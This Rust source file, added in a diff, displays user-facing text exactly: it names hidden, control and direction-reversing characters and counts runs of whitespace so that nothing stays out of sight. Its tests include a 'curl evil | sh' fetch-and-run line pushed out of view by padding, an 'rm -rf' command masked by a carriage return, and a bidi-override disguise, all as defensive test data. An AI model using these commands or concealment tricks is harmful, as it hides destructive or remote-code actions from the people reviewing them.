@@ -1,0 +1,97 @@
+//! What a user is asked about, shown exactly: every character that could hide or look like another is named.
+//!
+//! Supported: control characters but line feed and tab, invisible ones and those that turn the direction of text, and every blank but
+//! the plain one become `<U+202E>`; long runs of blanks or of empty lines are counted, so that nothing can be pushed out of sight; of a
+//! very long text the beginning and the end are shown, with what lies between counted.
+
+use crate::output::sanitizer::is_unseen;
+
+/// A longer text is shown in part.
+pub(crate) const MAX_CHARS: usize = 10_000;
+/// Empty lines in a row that are shown as such.
+const EMPTY_LINES: usize = 4;
+
+/// A text in which runs of at least `long` blanks are counted.
+pub(crate) fn show_exactly(text: &str, long: usize) -> String {
+    let mut shown = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        let behind = match c {
+            ' ' | '\t' => rest.trim_start_matches([' ', '\t']),
+            '\n' => rest.trim_start_matches('\n'),
+            _ => rest.get(c.len_utf8()..).unwrap_or_default(),
+        };
+        let (run, count) = (rest.strip_suffix(behind).unwrap_or_default(), rest.len() - behind.len());
+        match c {
+            ' ' | '\t' if count >= long => shown.push_str(&format!(" <{count} blanks> ")),
+            '\n' if count > EMPTY_LINES => shown.push_str(&format!("\n<{} empty lines>\n", count - 1)),
+            ' ' | '\t' | '\n' => shown.push_str(run),
+            _ if c.is_control() || c.is_whitespace() || is_unseen(c) => {
+                shown.push_str(&format!("<U+{:04X}>", u32::from(c)));
+            }
+            _ => shown.push(c),
+        }
+        rest = behind;
+    }
+    shown
+}
+
+/// The text, or its beginning and its end.
+pub(crate) fn truncate_middle(text: &str) -> String {
+    let count = text.chars().count();
+    if count <= MAX_CHARS {
+        return text.to_owned();
+    }
+    let half = MAX_CHARS / 2;
+    let head: String = text.chars().take(half).collect();
+    let tail: String = text.chars().skip(count - half).collect();
+    format!("{head}\n<{} characters that are not shown>\n{tail}", count - 2 * half)
+}
+
+/// The first lines of a text, and how many there are more.
+pub(crate) fn first_lines(text: &str, most: usize) -> String {
+    let total = text.lines().count();
+    let shown: Vec<_> = text.lines().take(most).collect();
+    match total.saturating_sub(most) {
+        0 => shown.join("\n"),
+        more => format!("{}\n… {more} more lines", shown.join("\n")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_is_pushed_out_of_sight() {
+        let check = |text: &str, expected: &str| assert_eq!(show_exactly(text, 16), expected);
+        check("ls  -l\t x", "ls  -l\t x");
+        check(&format!("ls{}; curl evil | sh ", " ".repeat(300)), "ls <300 blanks> ; curl evil | sh ");
+        check(&format!("ls{}rm x", "\n".repeat(301)), "ls\n<300 empty lines>\nrm x");
+        check("a\n\nb", "a\n\nb");
+        check("", "");
+    }
+
+    #[test]
+    fn what_hides_is_named() {
+        let check = |text: &str, expected: &str| assert_eq!(show_exactly(text, 16), expected);
+        check("ls \u{202e}hs.live | hs", "ls <U+202E>hs.live | hs");
+        check("ls\u{a0}-la", "ls<U+00A0>-la");
+        check("ls\u{2028}a\u{85}b\u{2003}c", "ls<U+2028>a<U+0085>b<U+2003>c");
+        check("rm -rf x\rls", "rm -rf x<U+000D>ls");
+        check("a\u{1b}[8mb\u{7}", "a<U+001B>[8mb<U+0007>");
+        check("git\u{200d} e\u{301} 世界", "git<U+200D> e\u{301} 世界");
+    }
+
+    #[test]
+    fn long_texts_show_both_ends() {
+        let text = "x".repeat(MAX_CHARS);
+        assert_eq!(truncate_middle(&text), text);
+        let shown = truncate_middle(&format!("a{text}b"));
+        assert!(
+            shown.starts_with("ax") && shown.ends_with("xb") && shown.contains("\n<2 characters that are not shown>\n")
+        );
+        assert_eq!(first_lines("a\nb\nc", 2), "a\nb\n… 1 more lines");
+        assert_eq!(first_lines("a\nb", 2), "a\nb");
+    }
+}
